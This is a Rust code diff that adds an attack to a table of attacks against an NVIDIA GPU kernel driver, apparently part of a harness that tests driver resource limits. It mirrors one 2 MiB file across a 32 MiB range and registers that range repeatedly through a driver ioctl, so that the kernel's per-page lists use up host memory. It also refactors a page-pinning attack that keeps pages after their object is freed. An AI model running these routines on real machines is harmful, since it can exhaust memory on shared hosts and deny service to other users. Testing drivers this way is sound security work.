@@ -31,6 +31,11 @@ pub(super) const ATTACKS: &[Own] = &[
         run: pins,
     },
     Own {
+        name: "host memory by lists of registered pages",
+        function: "nv.c:nv_register_user_pages",
+        run: || compare(LIMIT, ALLOWED, mirrors, lists),
+    },
+    Own {
         name: "host memory in pools of semaphores",
         function: "uvm_va_range.c:uvm_api_alloc_semaphore_pool",
         run: pools,
@@ -158,26 +163,60 @@ fn mapping(program: &Taker, number: u64) -> Result<(), String> {
     free_shown(program, shown)
 }
 
+/// Registers memory of the program's own: from an address on, so many bytes.
+fn register(program: &Taker, handle: u32, (at, bytes): (u64, u64)) -> Result<(), rm::Failure> {
+    let mut outer = [0; 56];
+    put_u32(&mut outer, 0, program.client.handle);
+    put_u32(&mut outer, 4, rm::DEVICE_HANDLE);
+    put_u32(&mut outer, 8, handle);
+    put_u32(&mut outer, 12, 0x71);
+    // Cached, not contiguous, and not to be mapped.
+    put_u32(&mut outer, 16, 0x4000_1010);
+    put_u64(&mut outer, 24, at);
+    put_u64(&mut outer, 32, bytes - 1);
+    escape(program.client.gpu, 0x27, &mut outer, 40)
+}
+
 /// Makes an object, maps a page of it, and registers that as memory of the program's own. Then it
 /// unmaps the page and frees the object. The page stays.
 fn pin(program: &Taker, number: u64) -> Result<(), String> {
     let shown = show(program, number)?;
     let at = BASE + number * PIECE;
-    let mut outer = [0; 56];
-    put_u32(&mut outer, 0, program.client.handle);
-    put_u32(&mut outer, 4, rm::DEVICE_HANDLE);
-    put_u32(&mut outer, 8, shown.0 + PINS);
-    put_u32(&mut outer, 12, 0x71);
-    // Cached, not contiguous, and not to be mapped.
-    put_u32(&mut outer, 16, 0x4000_1010);
-    put_u64(&mut outer, 24, at);
-    put_u64(&mut outer, 32, PAGE - 1);
-    let pinned = escape(program.client.gpu, 0x27, &mut outer, 40);
+    let pinned = register(program, shown.0 + PINS, (at, PAGE));
     // SAFETY: `show` has mapped it for this.
     let gone = unsafe { sys::munmap(at, PAGE) };
     gone.map_err(|errno| format!("munmap: errno {errno}"))?;
     free_shown(program, shown)?;
     pinned.map_err(|e| format!("RM_ALLOC_MEMORY: {e}"))
+}
+
+/// Bytes of addresses at which a program has the same 2 MiB again and again.
+const MIRRORED: u64 = 32 * MIB;
+
+fn mirrors(_: &Taker, _: u64) -> Result<(), String> {
+    const PAGES: u64 = 2 * MIB;
+    let errno = |errno| format!("memory: errno {errno}");
+    let file = sys::memory_file(c"mirrored").map_err(errno)?;
+    sys::set_len(file, PAGES).map_err(errno)?;
+    let (prot, shared) = (libc::PROT_READ | libc::PROT_WRITE, libc::MAP_SHARED);
+    for number in 0..MIRRORED / PAGES {
+        let at = BASE + number * PAGES;
+        let mapped = sys::mmap(at, PAGES, prot, shared | libc::MAP_FIXED, file, 0);
+        mapped.map_err(errno)?;
+    }
+    sys::close(file).map_err(errno)
+}
+
+/// Registers those addresses ten times. The driver's lists of them are nearly a piece: 96 bytes for
+/// each page.
+fn lists(program: &Taker, number: u64) -> Result<(), String> {
+    const TIMES: u64 = 10;
+    for handle in number * TIMES..(number + 1) * TIMES {
+        let handle = OWN + u32::try_from(handle).map_err(|e| e.to_string())?;
+        let registered = register(program, handle, (BASE, MIRRORED));
+        registered.map_err(|e| format!("RM_ALLOC_MEMORY: {e}"))?;
+    }
+    Ok(())
 }
 
 fn pool(program: &Taker, number: u64) -> Result<(), String> {
